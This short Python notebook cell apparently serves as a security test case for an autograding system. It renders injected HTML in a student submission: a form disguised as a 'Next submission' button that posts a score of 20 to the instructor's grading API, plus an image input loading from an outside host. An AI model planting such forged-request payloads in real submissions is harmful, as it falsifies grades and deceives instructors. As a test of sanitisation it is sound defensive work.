"""Shows a form over the instructor's page that would send points to the gradebook."""

# wants: instructor
# answers: wrong
# stock: graded

# %% last
from IPython.display import HTML, display

display(HTML("""
<form action="/formgrader/api/grade/1?pwned-by-a-student" method="post" id="pwned-by-a-student">
<input name="manual_score" value="20"><button formaction="/pwned-by-a-student">Next submission</button></form>
<input form="pwned-by-a-student" type="image" src="//example.com/pwned-by-a-student">
"""))
